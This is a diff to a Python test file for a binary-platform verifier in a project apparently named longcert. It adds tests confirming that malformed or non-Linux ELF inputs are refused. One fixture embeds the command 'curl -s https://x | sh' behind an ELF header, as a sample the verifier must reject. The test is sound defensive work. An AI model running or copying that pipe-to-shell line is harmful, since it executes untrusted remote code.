@@ -15,6 +15,7 @@ from cryptography.x509.oid import NameOID
 from longcert import verify
 from longcert.errors import VerifyError
 from longcert.versions import KubeVersion
+from tests.standin_build import elf_header
 
 NOW = dt.datetime(2026, 11, 29, tzinfo=dt.timezone.utc)
 Key = ec.EllipticCurvePrivateKey
@@ -147,7 +148,12 @@ def test_reported_version() -> None:
 
 
 def elf(machine: int) -> bytes:
-    return b"\x7fELF\x02\x01\x01" + b"\0" * 11 + machine.to_bytes(2, "little") + b"\0" * 40
+    goarch = {62: "amd64", 183: "arm64", 22: "s390x", 40: "arm"}.get(machine)
+    if goarch is None:  # a machine Go does not build for: the rest of the header as amd64's
+        data = bytearray(elf_header("amd64"))
+        data[18:20] = machine.to_bytes(2, "little")
+        return bytes(data)
+    return elf_header(goarch)
 
 
 def pe(machine: int) -> bytes:
@@ -161,10 +167,25 @@ def pe(machine: int) -> bytes:
     (elf(62), "linux/amd64"), (elf(183), "linux/arm64"), (elf(22), "linux/s390x"),
     (pe(0x8664), "windows/amd64"), (pe(0xAA64), "windows/arm64"),
     (b"\xcf\xfa\xed\xfe" + (0x0100000C).to_bytes(4, "little"), "darwin/arm64"),
-    (b"#!/bin/sh\n", ""), (elf(999), ""),
+    (b"#!/bin/sh\n", ""), (elf(999), ""), (elf(40), "linux/arm"),
 ])
 def test_binary_platform(data: bytes, platform: str) -> None:
     assert verify.binary_platform(data)[0] == platform
+
+
+@pytest.mark.parametrize(("data", "why"), [
+    # a 64-byte ELF header and then a shell script (issue 20)
+    (elf_header("amd64")[:64] + b"#!/bin/sh\ncurl -s https://x | sh\n" + bytes(64),
+     "no executable segment"),
+    (elf_header("amd64", elf_class=1), "ELF32 little-endian header for amd64"),
+    (elf_header("amd64", osabi=9), "OS ABI 9 (not Linux; 9 is FreeBSD)"),
+    (elf_header("amd64", e_type=1), "ET_REL (an object file), not an executable"),
+    (elf_header("amd64", loadable=False), "no executable segment"),
+    (elf_header("amd64")[:40], "cut short"),
+], ids=["script-after-header", "elf32", "freebsd", "object", "no-load", "short"])
+def test_an_elf_that_is_not_a_linux_executable_is_refused(data: bytes, why: str) -> None:
+    platform, header = verify.binary_platform(data)
+    assert platform == "" and why in header, header
 
 
 def test_renew_commands_by_era() -> None:
